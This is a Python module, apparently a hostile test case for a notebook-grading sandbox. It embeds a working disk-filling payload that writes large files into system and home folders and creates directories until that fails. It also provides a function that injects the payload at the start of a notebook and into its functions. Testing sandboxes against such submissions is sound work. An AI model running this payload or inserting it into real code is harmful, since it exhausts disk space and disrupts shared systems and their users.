"""Fill every folder that can be written to, with large files and with many."""

from assignments.hostile import first, replaced

ATTACK = """
import os

FOLDERS = ["/tmp", "/dev/shm", "/var/tmp", ".", "/dev", "/", os.path.expanduser("~")]

def attack(*arguments, **options):
    for folder in FOLDERS:
        try:
            for number in range(10):
                with open(f"{folder}/initlib-hostile-{number}", "wb") as file:
                    for _ in range(100):
                        file.write(bytes(10**6))
        except OSError:
            pass
    number = 0
    while True:
        number += 1
        try:
            os.mkdir(f"/tmp/initlib-hostile-{number:08}")
        except OSError:
            break
"""


def spoil(notebook, honest):
    """Fill before everything, and whenever another function is called."""
    return replaced(first(notebook, ATTACK + "\nattack()"), honest, ATTACK)
